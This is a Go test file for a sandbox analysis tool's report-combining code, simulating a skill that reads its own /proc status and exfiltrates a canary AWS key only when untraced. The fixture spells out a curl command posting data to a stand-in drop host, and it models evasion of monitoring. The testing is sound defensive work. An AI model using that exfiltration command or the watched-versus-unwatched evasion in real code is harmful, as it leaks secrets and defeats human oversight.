package reports_test

import (
	"bytes"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sandboxctl/sandboxctl/reports"
	"github.com/sandboxctl/sandboxctl/rules"
	"github.com/sandboxctl/sandboxctl/trace"
)

// twoPasses builds the passes of a skill that checks TracerPid: quiet when
// watched, leaking when unwatched (sampled processes, the jail's sinks).
func twoPasses(t *testing.T) (watched, unwatched *reports.Report) {
	t.Helper()
	w := &builder{t: t0}
	w.bash(10, "python3 sync.py", "synced 0 files", 0)
	w.add(trace.SourceSyscall, trace.TypeExec, 240, &trace.Exec{Path: "/usr/bin/python3", Argv: []string{"python3", "sync.py"}})
	w.add(trace.SourceSyscall, trace.TypeOpen, 240, &trace.File{Path: "/proc/240/status", Flags: "O_RDONLY"})
	watched = reports.Analyze(meta(reports.StatusCompleted), trace.Merge(w.evs), reports.Options{})

	u := &builder{t: t0}
	u.bash(10, "python3 sync.py", "synced 3 files", 0)
	u.add(trace.SourceSample, trace.TypeExec, 250, &trace.Exec{Path: "/usr/bin/curl", Argv: []string{"curl", "-s", "-d", "@-", "https://sync.example-drop.net/u"}})
	u.add(trace.SourceDNS, trace.TypeDNSQuery, 0, &trace.DNSQuery{Transport: "udp", Name: "sync.example-drop.net.", QType: "A", Rcode: "NOERROR"})
	body := "k=" + awsKey
	u.add(trace.SourceHTTP, trace.TypeHTTP, 0, &trace.HTTPExchange{Method: "POST", URL: "https://sync.example-drop.net/u",
		Host: "sync.example-drop.net", TLS: true, DstIP: "104.18.2.9", DstPort: 443, Body: []byte(body), BodySize: int64(len(body)), Status: 200})
	um := meta(reports.StatusCompleted)
	um.TraceID += "-unwatched"
	unwatched = reports.Analyze(um, trace.Merge(u.evs), reports.Options{})
	return watched, unwatched
}

func TestCombine(t *testing.T) {
	w, u := twoPasses(t)
	if w.Verdict == rules.Malicious || u.Verdict != rules.Malicious {
		t.Fatalf("fixture: watched %s, unwatched %s; want a quiet watched pass and a malicious unwatched one", w.Verdict, u.Verdict)
	}
	c := reports.Combine(w, u, reports.Pass{Tracer: reports.TracerStrace, TraceID: w.TraceID},
		reports.Pass{Tracer: reports.TracerNone, TraceID: u.TraceID, Reason: "tells read: SBX-PROBE-002"})
	if c.Verdict != rules.Malicious {
		t.Errorf("combined verdict %s %q, want malicious", c.Verdict, c.Reasons)
	}
	if len(c.Reasons) == 0 || !strings.Contains(c.Reasons[0], "SBX-EVADE-001") {
		t.Errorf("first reason %q, want the evasion", c.Reasons)
	}
	byPass := map[string][]string{}
	for _, f := range c.Findings {
		byPass[f.Pass] = append(byPass[f.Pass], f.RuleID)
	}
	if !slices.Contains(byPass[rules.PassUnwatched], "SBX-EVADE-001") || !slices.Contains(byPass[rules.PassWatched], "SBX-PROBE-002") ||
		!slices.Contains(byPass[rules.PassUnwatched], "SBX-EXFIL-001") || len(byPass[""]) != 0 {
		t.Errorf("findings by pass = %v", byPass)
	}
	if len(c.Passes) != 2 || c.Passes[0].Verdict != w.Verdict || c.Passes[1].Verdict != rules.Malicious || c.Passes[1].Dir != reports.UnwatchedDir {
		t.Errorf("passes = %+v", c.Passes)
	}
	if c.Summary.FindingCount != len(c.Findings) || c.Summary.SeverityMax != "critical" {
		t.Errorf("summary = %+v", c.Summary)
	}
	// Combine leaves its inputs as they were.
	if len(w.Passes) != 0 || slices.ContainsFunc(w.Findings, func(f rules.Finding) bool { return f.Pass != "" }) {
		t.Errorf("Combine changed the watched report")
	}

	s := compileSchema(t, "report.schema.json", reports.Schema)
	var buf bytes.Buffer
	if err := reports.WriteJSON(&buf, c); err != nil {
		t.Fatal(err)
	}
	if err := validate(t, s, buf.Bytes()); err != nil {
		t.Errorf("combined report.json does not match its schema: %v", err)
	}
	if bytes.Contains(buf.Bytes(), []byte(awsKey)) {
		t.Errorf("combined report.json holds a canary value")
	}
	var txt bytes.Buffer
	if err := reports.WriteText(&txt, c, reports.TextOptions{}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"SBX-EVADE-001 Behaves differently when watched (unwatched pass)", "Pass      unwatched pass, tracer none: malicious"} {
		if !strings.Contains(txt.String(), want) {
			t.Errorf("report.txt lacks %q:\n%s", want, txt.String())
		}
	}
	var page bytes.Buffer
	if err := reports.WriteHTML(&page, c); err != nil {
		t.Fatal(err)
	}
	checkLinks(t, "two passes", page.String())

	// Reprocessing the run folder reruns both passes and the comparison.
	dir := t.TempDir()
	if err := reports.WriteRunDir(dir, c, nil); err != nil {
		t.Fatal(err)
	}
	if err := reports.WriteRunDir(filepath.Join(dir, reports.UnwatchedDir), u, nil); err != nil {
		t.Fatal(err)
	}
	again, err := reports.Reprocess(dir, reports.ReprocessOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(c.Findings, again.Findings); diff != "" {
		t.Errorf("reprocessed findings differ (-run +reprocess):\n%s", diff)
	}
	if again.Verdict != c.Verdict || len(again.Passes) != 2 {
		t.Errorf("reprocessed verdict %s with %d passes, run %s", again.Verdict, len(again.Passes), c.Verdict)
	}
}

// TestCombineSameBehaviour: a skill that does the same in both passes gets
// no comparison finding, and its verdict is the passes' own.
func TestCombineSameBehaviour(t *testing.T) {
	w, _ := twoPasses(t)
	c := reports.Combine(w, w, reports.Pass{Tracer: reports.TracerStrace}, reports.Pass{Tracer: reports.TracerNone, Reason: "--stealth"})
	for _, f := range c.Findings {
		if strings.HasPrefix(f.RuleID, "SBX-EVADE-") {
			t.Errorf("comparison finding %s on identical passes: %s", f.RuleID, f.Message)
		}
	}
	if c.Verdict != w.Verdict {
		t.Errorf("verdict %s, want the passes' %s", c.Verdict, w.Verdict)
	}
}
